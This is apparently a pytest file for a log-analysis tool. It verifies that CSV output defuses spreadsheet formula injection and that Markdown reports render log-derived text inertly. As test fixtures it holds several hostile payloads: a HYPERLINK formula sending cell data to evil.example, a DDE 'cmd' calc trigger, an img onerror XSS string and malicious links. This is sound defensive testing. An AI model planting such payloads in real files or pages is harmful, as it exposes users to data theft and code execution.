"""Spreadsheet and Markdown injection from log-derived text (issue 29, items 11 and 12).

- `scan -f csv`: a cell that starts with `=`, `+`, `-`, `@`, a tab or a CR (also after spaces, also the
  full-width forms) is a formula to Excel and LibreOffice: `=HYPERLINK(...)` in a file name, a model name or a
  rule title runs when the CSV is opened. Such a text cell is quoted with a leading `'` (OWASP's advice).
- Markdown reports (`--format markdown`, the job summary, `scan -f markdown`, `compare -f markdown`): text from
  a log (file names, model and GPU names, values a rule pack's advice prints) never becomes HTML, a link or an
  image: it stays in code spans that backticks cannot close, or is escaped.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from .conftest import rule_text

ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = ROOT / "fixtures" / "example-kv-cache-too-small.log"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NAMES = ["=1+2.log", "+SUM(1;2).log", "-2+3.log", "@SUM(1).log", "\t=1+1.log", " =HYPERLINK(1).log",
         "\uff1d1+1.log"]
HOSTILE_MODEL = "=HYPERLINK(\"https://evil.example/?\"&A1;\"x\")"


def _log(model: str = HOSTILE_MODEL, extra: str = "") -> str:
    lines = EXAMPLE.read_text(encoding="utf-8").splitlines()
    lines[2] = lines[2].replace("'model': 'meta-llama/Llama-3.1-8B-Instruct'", f"'model': {model!r}")
    lines = [ln.replace("model='meta-llama/Llama-3.1-8B-Instruct'", f"model={model!r}") for ln in lines]
    if extra:
        lines = [ln.replace("ValueError: To serve", f"ValueError: {extra} To serve") for ln in lines]
    return "\n".join(lines) + "\n"


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_cells_never_start_a_formula(tmp_path, doctor, rule_file):
    folder = tmp_path / "logs"
    folder.mkdir()
    for name in NAMES:
        (folder / name).write_text(_log(), encoding="utf-8")
    trigger = folder / "@rule.log"
    trigger.write_text("ERROR 08-21 14:04:41 [core.py:700] the demo engine exploded loudly with 3 sparks\n")
    rules = rule_file(rule_text().replace("title: Demo", "title: '-2+3+cmd|'' /C calc''!A0'"))
    res = doctor("scan", "--no-progress", "--format", "csv", "--rules", str(rules), "--",
                 *sorted(p.name for p in folder.iterdir()), cwd=folder)
    assert res.returncode == 1, res.stderr
    rows = list(csv.reader(io.StringIO(res.stdout)))
    assert len(rows) > len(NAMES)
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in c for c in cells) and any("calc" in c for c in cells)
    for cell in cells:
        if cell and not _is_number(cell):
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), repr(cell)
    # the quoted cell still says what it was
    assert any(c == "'" + HOSTILE_MODEL or c == "'" + HOSTILE_MODEL.replace("\t", "") for c in cells), cells


# --- Markdown ---------------------------------------------------------------------------------------------------

def outside_code(markdown: str) -> str:
    """The Markdown text a renderer would interpret: fenced blocks, code spans and backslash escapes removed."""
    out, fence = [], None
    for line in markdown.splitlines():
        m = re.match(r"^ {0,3}(`{3,}|~{3,})", line)
        if fence is None and m:
            fence = m.group(1)
            continue
        if fence is not None:
            if re.match(r"^ {0,3}" + re.escape(fence[0]) + "{" + str(len(fence)) + ",}\\s*$", line):
                fence = None
            continue
        out.append(line)
    text = "\n".join(out)
    text = re.sub(r"\\[!-/:-@\[-`{-~]", "", text)  # backslash escapes: literal characters
    # code spans (CommonMark: a run of N backticks up to the next run of exactly N)
    result, i = [], 0
    while i < len(text):
        m = re.compile(r"`+").search(text, i)
        if not m:
            result.append(text[i:])
            break
        result.append(text[i:m.start()])
        ticks = m.group(0)
        close = re.compile(r"(?<!`)" + ticks + r"(?!`)").search(text, m.end())
        if close is None:
            result.append(ticks)
            i = m.end()
        else:
            i = close.end()
    return "".join(result)


ACTIVE = re.compile(r"<[A-Za-z/!?]|\]\(|!\[|\bhttps?:|\bwww\.|\bjavascript:", re.I)
HOSTILE_TEXT = "<img/src=x/onerror=alert(1)> [c](https://evil.example/c) ![p](https://evil.example/p.png) https://evil.example/raw"


def assert_inert_markdown(text: str) -> None:
    live = outside_code(text)
    m = ACTIVE.search(live)
    assert m is None, live[max(0, m.start() - 80): m.end() + 80]


def _hostile_files(tmp_path: Path) -> tuple[Path, Path]:
    log = tmp_path / "a`b<b>x[l](https:e.x)``.log"
    log.write_text(_log(model="<img/src=x/onerror=alert(1)>[m](https://evil.example/m)", extra=HOSTILE_TEXT),
                   encoding="utf-8")
    advice = "Named {{ who }} here.\n- also {{ who }}\n{{ who }}"
    rules = tmp_path / "demo-attack.yaml"
    rules.write_text(rule_text(advice).replace("'exploded loudly with (?P<count>\\d+) sparks'",
                                               "'exploded loudly with (?P<count>\\d+) sparks by (?P<who>.+)'")
                     .replace("  count: int", "  count: int\n  who: str")
                     .replace("with 3 sparks\"", "with 3 sparks by x\"")
                     .replace("facts: {count: 3}", "facts: {count: 3, who: x}")
                     .replace("title: Demo", "title: 'Demo <b>bold</b> [t](https://evil.example/t)'"))
    trigger = tmp_path / "t`x`.log"
    trigger.write_text("ERROR 08-21 14:04:41 [core.py:700] the demo engine exploded loudly with 3 sparks by "
                       + HOSTILE_TEXT + "\n")
    return log, trigger, rules


def test_markdown_report_and_job_summary(tmp_path, doctor, monkeypatch):
    log, trigger, rules = _hostile_files(tmp_path)
    res = doctor("--format", "markdown", "--rules", str(rules), str(log), str(trigger), cwd=tmp_path)
    assert res.returncode == 1, res.stderr
    assert "evil.example" in res.stdout  # shown, as text
    assert_inert_markdown(res.stdout)
    summary = tmp_path / "summary.md"
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    res = doctor("--format", "github", "--rules", str(rules), str(log), str(trigger), cwd=tmp_path)
    assert res.returncode == 1, res.stderr
    assert "evil.example" in summary.read_text(encoding="utf-8")
    assert_inert_markdown(summary.read_text(encoding="utf-8"))


def test_scan_markdown(tmp_path, doctor):
    log, trigger, rules = _hostile_files(tmp_path)
    bad = tmp_path / "gone`<b>x[l](https:e.x).log"
    bad.symlink_to(tmp_path / "missing")
    res = doctor("scan", "--no-progress", "--format", "markdown", "--rules", str(rules), log.name, trigger.name,
                 bad.name, cwd=tmp_path)
    assert res.returncode in (1, 2), res.stderr
    assert "evil.example" in res.stdout or "e.x" in res.stdout
    assert_inert_markdown(res.stdout)


@pytest.mark.parametrize("name", ["`", "``", "a`", "`a", "a``b`"])
def test_backticks_in_a_file_name_never_close_its_code_span(tmp_path, doctor, name):
    log = tmp_path / f"{name}<b>x[l](e.x).log"
    log.write_text(_log(model="m"), encoding="utf-8")
    for args in (("--format", "markdown", log.name), ("scan", "--no-progress", "--format", "markdown", log.name)):
        res = doctor(*args, cwd=tmp_path)
        assert res.returncode == 1, res.stderr
        assert "<b>" not in outside_code(res.stdout) and "](" not in outside_code(res.stdout), res.stdout
